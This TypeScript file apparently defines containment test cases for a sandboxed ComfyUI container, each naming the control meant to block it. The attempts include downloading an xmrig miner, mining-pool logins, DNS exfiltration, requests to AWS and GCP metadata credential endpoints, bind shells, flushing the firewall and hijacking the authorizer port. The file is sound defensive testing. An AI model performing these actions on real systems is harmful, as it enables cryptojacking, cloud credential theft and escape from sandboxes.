import { type Attempt, alike, BRIDGE_PORT, HOST, NEIGHBOUR_NAME } from "../attempt";

const STRATUM = '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"drill","pass":"x"}}\n';
const MPTCP = 262;
const SCTP = 132;
const UDP_LITE = 136;
const AF_VSOCK = 40;
const GATEWAY_TABLE = { stopper: "firewall", control: "root" } as const;

/** Fetching the payload. */
export const DOWNLOADS: readonly Attempt[] = alike(GATEWAY_TABLE, [
  {
    id: "download-http",
    tries: "downloads its payload over HTTP",
    act: { do: "http", host: HOST.pool, port: 80, method: "GET", path: "/xmrig.tar.gz" },
  },
  {
    id: "download-https",
    tries: "downloads its payload over HTTPS",
    act: { do: "tcp", host: HOST.pool, port: 443 },
  },
  {
    id: "download-https-ipv6",
    tries: "downloads its payload over IPv6",
    act: { do: "tcp", host: HOST.pool6, port: 443 },
  },
  {
    id: "download-quic",
    tries: "downloads its payload over QUIC",
    act: { do: "udp", host: HOST.pool, port: 443 },
  },
  {
    id: "download-neighbour",
    tries: "fetches it from another container on the same network",
    act: { do: "http", host: HOST.neighbour, port: 80, method: "GET", path: "/" },
  },
  {
    id: "dns-udp",
    tries: "asks a DNS server for a name, or tells it something in the name",
    act: { do: "dns", host: HOST.dns, name: "secret.drill.example" },
  },
  {
    id: "dns-tcp",
    tries: "asks a DNS server over TCP",
    act: { do: "dns_over_tcp", host: HOST.dns, name: "secret.drill.example" },
  },
  { id: "dns-tls", tries: "asks a DNS server over TLS", act: { do: "tcp", host: HOST.dns, port: 853 } },
  {
    id: "dns-docker",
    tries: "asks Docker's own DNS, which asks on from the host",
    act: { do: "dns", host: "127.0.0.11", name: NEIGHBOUR_NAME },
  },
  {
    id: "dns-resolver",
    tries: "resolves a name as any program does",
    act: { do: "resolve", name: NEIGHBOUR_NAME },
  },
  { id: "ntp", tries: "talks to a time server", act: { do: "udp", host: HOST.pool, port: 123 } },
  { id: "ping", tries: "pings, as every user may", act: { do: "ping", host: HOST.pool } },
  { id: "ping-ipv6", tries: "pings over IPv6", act: { do: "ping", host: HOST.pool6 } },
  {
    id: "tcp-fast-open",
    tries: "sends data in the first packet, before there is a connection",
    act: { do: "fast_open", host: HOST.pool, port: 80 },
  },
]);

/** Mining. */
export const POOLS: readonly Attempt[] = alike(GATEWAY_TABLE, [
  ...([14433, 14444, 3333, 4444, 5555] as const).map((port) => ({
    id: `pool-tcp-${port}`,
    tries: `signs in at a mining pool on TCP port ${port}`,
    act: { do: "tcp", host: HOST.pool, port, say: STRATUM } as const,
  })),
  ...([14433, 14444] as const).map((port) => ({
    id: `pool-udp-${port}`,
    tries: `signs in at a mining pool on UDP port ${port}`,
    act: { do: "udp", host: HOST.pool, port, say: STRATUM } as const,
  })),
  {
    id: "pool-tcp-ipv6",
    tries: "signs in at a mining pool over IPv6",
    act: { do: "tcp", host: HOST.pool6, port: 14444, say: STRATUM },
  },
  {
    id: "pool-udp-ipv6",
    tries: "signs in at a mining pool over UDP on IPv6",
    act: { do: "udp", host: HOST.pool6, port: 14433, say: STRATUM },
  },
  {
    id: "pool-mptcp",
    tries: "takes multipath TCP instead",
    act: { do: "tcp", host: HOST.pool, port: 3333, say: STRATUM, protocol: MPTCP },
  },
  {
    id: "pool-sctp",
    tries: "takes SCTP instead",
    act: { do: "tcp", host: HOST.pool, port: 3333, say: STRATUM, protocol: SCTP },
  },
  {
    id: "pool-udp-lite",
    tries: "takes UDP-Lite instead",
    act: { do: "udp", host: HOST.pool, port: 14433, say: STRATUM, protocol: UDP_LITE },
  },
]);

const METADATA: readonly [string, string, string, string, string, Record<string, string>?][] = [
  ["aws-v1", "AWS, version 1", "169.254.169.254", "GET", "/latest/meta-data/iam/security-credentials/"],
  [
    "aws-v2",
    "AWS, a token for version 2",
    "169.254.169.254",
    "PUT",
    "/latest/api/token",
    { "X-aws-ec2-metadata-token-ttl-seconds": "60" },
  ],
  ["aws-ipv6", "AWS over IPv6", "fd00:ec2::254", "GET", "/latest/meta-data/"],
  ["ecs", "AWS ECS, a task's credentials", "169.254.170.2", "GET", "/v2/credentials/"],
  ["eks", "AWS EKS, a pod's credentials", "169.254.170.23", "GET", "/v1/credentials"],
  [
    "gcp",
    "Google Cloud",
    "169.254.169.254",
    "GET",
    "/computeMetadata/v1/instance/service-accounts/default/token",
    { "Metadata-Flavor": "Google" },
  ],
];

/** A node that is told which address to ask: the cloud's metadata, the pod's insides, the host. */
export const REQUEST_FORGERY: readonly Attempt[] = [
  ...alike(
    GATEWAY_TABLE,
    METADATA.map(([id, what, host, method, path, headers]) => ({
      id: `metadata-${id}`,
      tries: `asks for the machine's cloud credentials: ${what}`,
      act: { do: "http", host, port: 80, method, path, headers } as const,
    })),
  ),
  ...alike({ stopper: "firewall", control: "neighbour" }, [
    {
      id: "authorizer",
      tries: "talks to the authorizer as if it were nginx, with an identity of its own making",
      act: {
        do: "http",
        host: "127.0.0.1",
        port: 8190,
        method: "POST",
        path: "/history",
        headers: {
          "X-Gateway-Purpose": "handle",
          "X-Gateway-Route": "history-change",
          "X-Gateway-Method": "POST",
        },
      },
    },
    {
      id: "own-api",
      tries: "posts a workflow to ComfyUI's own port, past the inspection",
      act: {
        do: "http",
        host: "127.0.0.1",
        port: 8188,
        method: "POST",
        path: "/prompt",
        headers: { "Content-Type": "application/json" },
        body: "{}",
      },
    },
    {
      id: "clear-history",
      tries: "clears the history by ComfyUI's own port",
      act: {
        do: "http",
        host: "127.0.0.1",
        port: 8188,
        method: "POST",
        path: "/history",
        headers: { "Content-Type": "application/json" },
        body: '{"clear":true}',
      },
    },
  ]),
  ...alike(GATEWAY_TABLE, [
    {
      id: "gateway-from-inside",
      tries: "comes in by the gateway, as one from inside",
      act: { do: "reach", host: HOST.pod, port: 8443 },
    },
    {
      id: "docker-api",
      tries: "talks to the Docker API on the host's bridge address",
      act: { do: "reach", host: HOST.bridge, port: BRIDGE_PORT },
    },
    {
      id: "neighbour-container",
      tries: "connects to another container",
      act: { do: "reach", host: HOST.neighbour, port: 3333 },
    },
  ]),
  ...alike({ stopper: "firewall", control: { none: "nothing may connect there, ever" } }, [
    {
      id: "gateway-on-loopback",
      tries: "comes in by the gateway's port on loopback",
      act: { do: "reach", host: "127.0.0.1", port: 8443 },
    },
    {
      id: "comfyui-on-bridge",
      tries: "finds ComfyUI's port on the bridge address",
      act: { do: "reach", host: HOST.pod, port: 8188 },
    },
  ]),
];

/** Waiting for somebody outside to come and take control. */
export const LISTENING: readonly Attempt[] = alike(GATEWAY_TABLE, [
  {
    id: "bind-shell",
    tries: "waits for its master on a port of its own",
    act: { do: "serve", host: "0.0.0.0", port: 4444, seconds: 2 },
  },
  {
    id: "bind-shell-ipv6",
    tries: "waits for its master on IPv6",
    act: { do: "serve", host: "::", port: 4444, seconds: 2 },
  },
  {
    id: "place-of-the-gateway",
    tries: "waits on the gateway's port while the gateway restarts",
    act: { do: "serve", host: "0.0.0.0", port: 8443, seconds: 2, whileAway: "gateway" },
  },
]);

/** Past the firewall: other protocols, other layers, other rules. */
export const FIREWALL: readonly Attempt[] = [
  ...alike({ stopper: "capabilities", control: "root" }, [
    { id: "raw-ip", tries: "sends raw IP packets", act: { do: "ping", host: HOST.pool, raw: true } },
    {
      id: "raw-ipv6",
      tries: "sends raw IPv6 packets",
      act: { do: "ping", host: HOST.pool6, raw: true },
    },
    { id: "raw-frame", tries: "sends Ethernet frames, under the firewall", act: { do: "frame" } },
    { id: "flush-firewall", tries: "removes the firewall's rules", act: { do: "flush_firewall" } },
    { id: "add-route", tries: "changes the routes", act: { do: "add_route", to: "198.51.100.1" } },
  ]),
  {
    id: "vsock",
    tries: "talks to the hypervisor by a socket that is not on the network (vsock)",
    act: { do: "other_family", family: AF_VSOCK },
    stopper: "seccomp",
    control: "user",
  },
  ...alike({ stopper: "port in use", control: "root" }, [
    {
      id: "take-gateway-port",
      tries: "takes the gateway's port over",
      act: { do: "listen", host: "0.0.0.0", port: 8443 },
    },
    {
      id: "take-gateway-port-ipv6",
      tries: "takes the gateway's port over on IPv6",
      act: { do: "listen", host: "::", port: 8443 },
    },
    {
      id: "take-authorizer-port",
      tries: "takes the authorizer's port over, to approve everything",
      act: { do: "listen", host: "127.0.0.1", port: 8190 },
    },
  ]),
];
